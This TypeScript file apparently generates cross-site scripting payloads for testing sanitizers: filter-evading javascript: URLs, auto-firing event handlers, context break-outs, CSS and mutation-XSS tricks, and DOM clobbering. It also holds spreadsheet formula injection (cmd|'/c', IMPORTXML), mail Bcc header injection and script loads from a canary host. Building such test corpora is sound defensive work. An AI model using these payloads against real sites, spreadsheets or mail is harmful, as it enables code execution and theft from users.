/** Writes a payload around the code that must never run. */
type Maker = (code: string) => string

export interface Family {
  readonly name: string
  readonly makers: readonly Maker[]
}

export interface Payload {
  readonly family: string
  readonly number: number
  readonly text: string
}

/** Addresses that run code where an address is followed or loaded. */
export const runningAddresses: readonly ((code: string) => string)[] = [
  code => `javascript:${code}`,
  code => `JaVaScRiPt:${code}`,
  code => ` javascript:${code}`,
  code => `\u0001javascript:${code}`,
  code => `java\tscript:${code}`,
  code => `java\nscript\r:${code}`,
  code => `javascript\t:${code}`,
  code => `javascript:/*--></title></style>*/${code}`,
  code => `javascript://example.com/%0a${code}`,
  code => `javascript&colon;${code}`,
  code => `java&Tab;script&NewLine;:${code}`,
  code => `&#106;&#97;vascript:${code}`,
  code => `&#x6A;avascript:${code}`,
  code => `&#0000106avascript:${code}`,
  code => `jav&#x0A;ascript:${code}`,
  code => `\u00a0javascript:${code}`,
  code => `\u2028javascript:${code}`,
  code => `\ufeffjavascript:${code}`,
  code => `vbscript:${code}`,
  code => `data:text/html,<script>${code}</script>`,
  code => `data:text/html;base64,${Buffer.from(`<script>${code}</script>`).toString('base64')}`,
  code => `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${code}"/>`,
  code => `DATA:TEXT/HTML;charset=utf-7,+ADw-script+AD4-${code}+ADw-/script+AD4-`,
  code => `feed:javascript:${code}`,
  code => `view-source:javascript:${code}`,
  code => `blob:javascript:${code}`,
  code => `https://example.com/"onmouseover="${code}`,
  code => `https://example.com/'><img src=x onerror=${code}>`,
  code => `mailto:a@b.example?body="><script>${code}</script>`,
  code => `#"><img src=x onerror=${code}>`,
  code => `//canary.test/a.js?${code}`,
  code => `https://example.com@javascript:${code}`,
]

const places: readonly ((address: string) => string)[] = [
  address => `<a href="${address}">words</a>`,
  address => `<a href='${address}' target=_self>words</a>`,
  address => `<iframe src="${address}"></iframe>`,
  address => `<form action="${address}"><button>x</button></form><button formaction="${address}">y</button>`,
  address => `<svg><a xlink:href="${address}"><text y="9">words</text></a></svg>`,
  address => `<object data="${address}"></object><embed src="${address}">`,
]

export const addresses: Family = {
  name: 'addresses',
  makers: places.flatMap((place, at) =>
    // Every address in a link; in the other places every other one.
    runningAddresses
      .filter((_, number) => at === 0 || number % 2 === at % 2)
      .map(address => (code: string) => place(address(code))),
  ),
}

/** Elements whose handler runs by itself once they stand on a page. */
const elements: readonly (readonly [string, string, string])[] = [
  ['img', 'src=x', 'onerror'],
  ['image', 'src=x', 'onerror'],
  ['svg', '', 'onload'],
  ['body', '', 'onload'],
  ['body', '', 'onpageshow'],
  ['iframe', 'src=about:blank', 'onload'],
  ['video', 'src=x', 'onerror'],
  ['audio', 'src=x', 'onerror'],
  ['video', '><source src=x', 'onerror'],
  ['audio', '><source src=x', 'onerror'],
  ['img', 'srcset=x', 'onerror'],
  ['img', 'src=/favicon.svg', 'onload'],
  ['input', 'autofocus', 'onfocus'],
  ['select', 'autofocus', 'onfocus'],
  ['textarea', 'autofocus', 'onfocus'],
  ['button', 'autofocus', 'onfocus'],
  ['p', 'tabindex=1 autofocus', 'onfocus'],
  ['a', 'href=# autofocus', 'onfocus'],
  ['span', 'contenteditable autofocus', 'onfocus'],
  ['details', 'open', 'ontoggle'],
  ['marquee', '', 'onstart'],
  ['object', 'data=x', 'onerror'],
  ['embed', 'src=x', 'onerror'],
  ['link', 'rel=stylesheet href=x', 'onerror'],
  ['script', 'src=x', 'onerror'],
  ['input', 'type=image src=x', 'onerror'],
  ['li', 'style=animation-name:rotation', 'onanimationstart'],
  ['h1', 'style=transition:outline-color_1s id=x tabindex=1', 'ontransitionend'],
  ['xss', 'id=x tabindex=1 autofocus', 'onfocusin'],
]

type Write = (tag: string, more: string, handler: string, code: string) => string

/** The same in the ways that filters have been got past. */
const spellings: readonly Write[] = [
  (tag, more, on, code) => `<${tag} ${more} ${on}=${code}>`,
  (tag, more, on, code) => `<${tag} ${more} ${on}="${code}">`,
  (tag, more, on, code) => `<${tag.toUpperCase()} ${more} ${on.toUpperCase()}='${code}'>`,
  (tag, more, on, code) => `<${tag}/${more.replaceAll(' ', '/')}/${on}=${code}//`,
  (tag, more, on, code) => `<${tag}\n${more}\t${on}\f=\r"${code}"`,
  (tag, more, on, code) => `<${tag} ${more} ${on}=${encode(code)}>`,
  (tag, more, on, code) => `<p>words</p><${tag} ${more} a="b"${on}="${code}">words</${tag}>`,
  (tag, more, on, code) => `<<${tag} ${more} ${on}=${code}>>`,
]

export const handlers: Family = {
  name: 'handlers',
  makers: elements.flatMap(([tag, more, on]) =>
    spellings.map(write => (code: string) => write(tag, more, on, code)),
  ),
}

/** Every character as a number: what a parser of attributes reads back. */
function encode(code: string): string {
  return [...code]
    .map((char, at) => (at % 2 ? `&#${char.charCodeAt(0)};` : `&#x${char.charCodeAt(0).toString(16)};`))
    .join('')
}

export const scripts: Family = {
  name: 'scripts',
  makers: [
    code => `<script>${code}</script>`,
    code => `<SCRIPT>${code}</SCRIPT>`,
    code => `<script\n>${code}</script\n>`,
    code => `<script/x>${code}</script/x>`,
    code => `<script>${code}`,
    code => `<script src="//canary.test/a.js?${code}"></script>`,
    code => `<script src=data:text/javascript,${code}></script>`,
    code => `<script type=module>${code}</script>`,
    code => `<script nonce="" nomodule=0>${code}</script>`,
    code => `<script>//<!--\n${code}//--></script>`,
    code => `\0<scr\0ipt>${code}</scr\0ipt>`,
    code => `＜script＞${code}＜/script＞`,
    code => `\u2039script\u203a${code}\u2039/script\u203a`,
    code => `%3Cscript%3E${code}%3C/script%3E`,
    code => `\\x3cscript\\x3e${code}\\x3c/script\\x3e`,
    code => `\\u003cscript\\u003e${code}\\u003c/script\\u003e`,
    code => `+ADw-script+AD4-${code}+ADw-/script+AD4-`,
    code => `<meta http-equiv=refresh content="0;url=javascript:${code}">`,
    code => `<meta http-equiv="refresh" content="0; url=https://canary.test/?${code}">`,
    code => `<base href="https://canary.test/"><img src=x onerror=${code}>`,
    code => `<link rel=import href="https://canary.test/?${code}">`,
    code => `<link rel=stylesheet href="https://canary.test/a.css?${code}">`,
    code => `<portal src="https://canary.test/?${code}"></portal>`,
    code => `<applet code="javascript:${code}"></applet>`,
    code => `<layer src="//canary.test/?${code}"></layer>`,
  ],
}

/** Out of where words are put: an element, an attribute, a string of a script, JSON. */
export const breakOuts: Family = {
  name: 'break-outs',
  makers: [
    code => `"><img src=x onerror=${code}>`,
    code => `'><img src=x onerror=${code}>`,
    code => `><img src=x onerror=${code}>`,
    code => `" autofocus onfocus=${code} x="`,
    code => `' autofocus onfocus=${code} x='`,
    code => `\` autofocus onfocus=${code} x=\``,
    code => `" onmouseover="${code}" style="position:fixed;inset:0`,
    code => `&quot;&gt;&lt;img src=x onerror=${code}&gt;`,
    code => `\\"><img src=x onerror=${code}>`,
    code => `--><img src=x onerror=${code}><!--`,
    code => `]]><img src=x onerror=${code}>`,
    code => `</title><img src=x onerror=${code}>`,
    code => `</textarea><img src=x onerror=${code}>`,
    code => `</style><img src=x onerror=${code}>`,
    code => `</noscript><img src=x onerror=${code}>`,
    code => `</template><img src=x onerror=${code}>`,
    code => `</script><script>${code}</script>`,
    code => `</SCRIPT\n><script>${code}</script>`,
    code => `<!--<script>${code}</script>`,
    code => `<!--<script></script><script>${code}</script>`,
    code => `";${code};//`,
    code => `';${code};//`,
    code => `\\";${code};//`,
    code => `"-${code}-"`,
    code => `\${${code}}`,
    code => `{{constructor.constructor('${code}')()}}`,
    code => `\u2028${code}\u2029//`,
    code => `"}]}</script><script>${code}</script>`,
    code => `</script><img src=x onerror=${code}>`,
    code => `"@type":"x"}</script><svg onload=${code}>`,
    code => `$&$\`$'</script><script>${code}</script>`,
    code => `javascript:${code}`,
  ],
}

export const styles: Family = {
  name: 'styles',
  makers: [
    code => `<style>*{background:url("javascript:${code}")}</style>`,
    code => `<style>@import "https://canary.test/a.css?${code}";</style>`,
    code => `<style>@import'\\6a\\61vascript:${code}';</style>`,
    code => `<style></style><img src=x onerror=${code}>`,
    code => `<style><!--</style><img src=x onerror=${code}>-->`,
    code => `<span style="color:expression(${code})">x</span>`,
    code => `<span style="color:#fff;background:url(javascript:${code})">x</span>`,
    code => `<span style="color:red;-moz-binding:url(https://canary.test/x.xml#${code})">x</span>`,
    code => `<p style="text-align:center;behavior:url(https://canary.test/x.htc?${code})">x</p>`,
    code => `<p style="text-align:left/*"><img src=x onerror=${code}>*/">x</p>`,
    code => `<span style="background-color:url(https://canary.test/?${code})">x</span>`,
    code => `<span style="font-family:url(https://canary.test/?${code});font-size:calc(9pt)">x</span>`,
    code => `<span style="font-family:x'"><img src=x onerror=${code}>;font-size:24pt">x</span>`,
    code => `<p style="line-height:1}*{background:url(https://canary.test/?${code})">x</p>`,
    code => `<span style="color:rgb(1,1,1)}</style><img src=x onerror=${code}>">x</span>`,
    code => `<p style="text-align:&#x22;&#x3e;&#x3c;img src=x onerror=${code}&#x3e;">x</p>`,
    code => `<span style='color:#fff"onmouseover="${code}'>x</span>`,
  ],
}

/** Names that stand for something else where they are looked up. */
export const names: Family = {
  name: 'names',
  makers: [
    ...[
      '__proto__',
      'constructor',
      'prototype',
      'toString',
      'hasOwnProperty',
      'valueOf',
      '__defineGetter__',
      'then',
    ].map(name => () => name),
    code => `{"__proto__":{"innerHTML":"<img src=x onerror=${code}>"}}`,
    code => `__proto__[src]=data:,${code}`,
    code => `<form id=config><input name=origin value="javascript:${code}"></form>`,
    code => `<a id=state href="javascript:${code}"></a><a id=state name=user href="data:,${code}"></a>`,
    code => `<img name=getElementById><img name=body src=x onerror=${code}>`,
    code =>
      `<form name=documentElement><input name=attributes><input name=parentNode onfocus=${code} autofocus>`,
    code => `<iframe name=config srcdoc="<a id=origin href=javascript:${code}></a>"></iframe>`,
    code => `<p id="root">${code}</p>`,
    code => `<a href="#" id="__proto__" name="innerHTML">${code}</a>`,
  ],
}

/** What spreadsheets and mail programs run. */
export const programs: Family = {
  name: 'spreadsheets and mail',
  makers: [
    code => `=cmd|'/c ${code}'!A0`,
    code => `+cmd|'/c ${code}'!A0`,
    code => `-2+3+cmd|'/c ${code}'!A0`,
    code => `@SUM(1+1)*cmd|'/c ${code}'!A0`,
    code => `\t=HYPERLINK("https://canary.test/?${code}","open")`,
    code => `\r=IMPORTXML("https://canary.test/?${code}","//a")`,
    code => `\n=1+1+${code}`,
    code => `＝1+1+${code}`,
    code => `＋1+${code}`,
    code => `  =1+1+${code}`,
    code => `"=1+1",=2+2,${code}`,
    code => `;=1+1;${code}`,
    code => `%0d%0aBcc: victim@example.com%0d%0a%0d%0a<script>${code}</script>`,
    code => `a\r\nBcc: victim@example.com\r\n\r\n<script>${code}</script>`,
    code => `=?utf-8?q?=3Cscript=3E${code}=3C/script=3E?=`,
  ],
}

/** What one parser takes for words and the next for markup. */
export const mutated: Family = {
  name: 'mXSS',
  makers: [
    code => `<svg></p><style><a id="</style><img src=1 onerror=${code}>">`,
    code =>
      `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${code}&gt;">`,
    code => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${code}>`,
    code =>
      `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${code}></style></annotation-xml></math>`,
    code => `<svg><foreignObject><p><style><img src=x onerror=${code}></style></p></foreignObject></svg>`,
    code => `<noscript><p title="</noscript><img src=x onerror=${code}>">`,
    code => `<p title="&lt;/p&gt;&lt;img src=x onerror=${code}&gt;">words</p>`,
    code => `<listing>&lt;img src=x onerror=${code}&gt;</listing>`,
    code => `<xmp><p title="</xmp><img src=x onerror=${code}>"></xmp>`,
    code => `<textarea><p title="</textarea><img src=x onerror=${code}>"></textarea>`,
    code => `<title><a title="</title><img src=x onerror=${code}>"></title>`,
    code => `<iframe><p title="</iframe><img src=x onerror=${code}>"></iframe>`,
    code => `<noembed><p title="</noembed><img src=x onerror=${code}>">`,
    code => `<noframes><p title="</noframes><img src=x onerror=${code}>">`,
    code => `<plaintext><img src=x onerror=${code}>`,
    code => `<select><option><style></option></select><img src=x onerror=${code}></style>`,
    code => `<table><tr><td><svg><desc><table><img src=x onerror=${code}>`,
    code => `<p><svg><p><style><!--</style><img src=x onerror=${code}>--></style>`,
    code => `&lt;img src=x onerror=${code}&gt;`,
    code => `&amp;lt;img src=x onerror=${code}&amp;gt;`,
    code => `<p>&lt;<b></b>img src=x onerror=${code}></p>`,
    code => `<<b></b>script>${code}<<b></b>/script>`,
    code => `<scr<script>ipt>${code}</scr</script>ipt>`,
    code => `<im<script></script>g src=x onerror=${code}>`,
    code => `<a href="https://a.b/?&quot;&gt;&lt;img src=x onerror=${code}&gt;">x</a>`,
    code => `<span style="color:#fff&quot;&gt;&lt;img src=x onerror=${code}&gt;">x</span>`,
    code =>
      `<p style="text-align:center;background:url('&quot;&gt;&lt;img src=x onerror=${code}&gt;')">x</p>`,
    code => `<template><img src=x onerror=${code}></template>`,
    code => `<template shadowrootmode=open><img src=x onerror=${code}></template>`,
    code => `<div><template shadowrootmode="open"><script>${code}</script></template></div>`,
    code => `<iframe srcdoc="<script>top.${code}</script>"></iframe>`,
    code => `<iframe srcdoc="&lt;img src=x onerror=parent.${code}&gt;">`,
    code => `<object><param name=x><img src=x onerror=${code}></object>`,
    code => `<frameset onload=${code}><frame src="javascript:${code}"></frameset>`,
  ],
}

export const comments: Family = {
  name: 'comments and sections',
  makers: [
    code => `<!--><img src=x onerror=${code}>-->`,
    code => `<!--><img src=x onerror=${code}>`,
    code => `<!---><img src=x onerror=${code}>-->`,
    code => `<!-- --!><img src=x onerror=${code}> -->`,
    code => `<!-- <p>--><img src=x onerror=${code}>`,
    code => `<![CDATA[><img src=x onerror=${code}>]]>`,
    code => `<svg><![CDATA[</svg><img src=x onerror=${code}>]]></svg>`,
    code => `<!DOCTYPE a ["><img src=x onerror=${code}>`,
    code => `<!ENTITY a "><img src=x onerror=${code}>">`,
    code => `<?xml version="1.0"?><img src=x onerror=${code}>?>`,
    code => `<?php <img src=x onerror=${code}>`,
    code => `<!><img src=x onerror=${code}>`,
    code => `</><img src=x onerror=${code}>`,
    code => `</ img src=x onerror=${code}>`,
    code => `<% <img src=x onerror=${code}> %>`,
    code => `<!--[if IE]><script>${code}</script><![endif]-->`,
  ],
}

export const drawings: Family = {
  name: 'namespaces',
  makers: [
    code => `<svg onload=${code}>`,
    code => `<svg><script>${code}</script></svg>`,
    code => `<svg><script href="data:,${code}"></script></svg>`,
    code => `<svg><script xlink:href="//canary.test/a.js?${code}"/></svg>`,
    code => `<svg><animate onbegin=${code} attributeName=x dur=1s>`,
    code => `<svg><set onbegin=${code} attributeName=x to=1>`,
    code => `<svg><a><animate attributeName=href values="javascript:${code}" /><text y=9>x</text></a>`,
    code =>
      `<svg><a xlink:href="#"><set attributeName="xlink:href" to="javascript:${code}"/><text y=9>x</text></a>`,
    code =>
      `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='${code}'/></svg>#x"/></svg>`,
    code => `<svg><image href=x onerror=${code}></svg>`,
    code =>
      `<svg><foreignObject><iframe srcdoc="<script>parent.${code}</script>"></iframe></foreignObject></svg>`,
    code => `<svg><style>@import url("data:text/css,*{x:expression(${code})}")</style></svg>`,
    code => `<svg><handler type="text/javascript" ev:event="load">${code}</handler></svg>`,
    code => `<svg><discard onbegin=${code}>`,
    code => `<svg xmlns:x="http://www.w3.org/1999/xhtml"><x:script>${code}</x:script></svg>`,
    code => `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${code}</x:script>`,
    code => `<math href="javascript:${code}">x</math>`,
    code =>
      `<math><maction actiontype="statusline#http://a" xlink:href="javascript:${code}">x</maction></math>`,
    code => `<math><mi//xlink:href="data:x,<script>${code}</script>">`,
    code => `<math><mtext><script>${code}</script></mtext></math>`,
    code => `<svg><title><img src=x onerror=${code}></title></svg>`,
    code => `<svg><desc><script>${code}</script></desc></svg>`,
    code =>
      `<svg viewBox="0 0 9 9"><g onclick="${code}" onmouseover="${code}"><rect width=9 height=9 /></g></svg>`,
  ],
}
